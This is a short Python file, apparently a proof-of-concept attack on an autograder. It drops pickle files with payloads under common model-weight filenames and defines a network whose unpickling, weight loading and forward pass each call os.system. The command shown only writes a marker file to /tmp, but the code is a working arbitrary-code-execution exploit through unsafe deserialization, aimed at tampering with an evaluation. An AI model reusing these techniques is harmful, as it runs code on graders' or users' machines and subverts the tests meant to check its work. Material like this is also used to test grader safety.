"""Leaves files where a grader would look for weights, each with a payload, and gives a network that carries one."""
# file: model.py

import os
import zipfile
from pathlib import Path

import torch
from torch import nn

COMMAND = "echo autograder-attack > /tmp/autograder-attack-weights.txt"


class Payload:
    def __reduce__(self):
        return os.system, (COMMAND,)


for name in ("model.pt", "model.pth", "weights.pt", "checkpoint.pth", "best.ckpt", "net.pkl", "state_dict.pt"):
    torch.save({"state_dict": Payload(), "model": Payload()}, name)
with zipfile.ZipFile("model.pt2", "w") as archive:
    archive.writestr("model/data.pkl", b"cos\nsystem\n(S'" + COMMAND.encode() + b"'\ntR.")
Path("pytorch_model.bin").write_bytes(
    b"\x80\x02cos\nsystem\n(X" + len(COMMAND).to_bytes(4, "little") + COMMAND.encode()
)


class Net(nn.Sequential):
    def __reduce_ex__(self, protocol):
        return os.system, (COMMAND,)

    def state_dict(self, *args, **kwargs):
        return {"1.weight": Payload(), "1.bias": Payload()}

    def load_state_dict(self, state, *args, **kwargs):
        os.system(COMMAND)

    def __setstate__(self, state):
        os.system(COMMAND)

    def __deepcopy__(self, memo):
        return Payload()


def make_net():
    net = Net(nn.Flatten(), nn.Linear(784, 30), nn.ReLU(), nn.Linear(30, 10))
    net.register_forward_hook(lambda *args: os.system(COMMAND) and None)
    net.register_full_backward_hook(lambda *args: None)
    return net
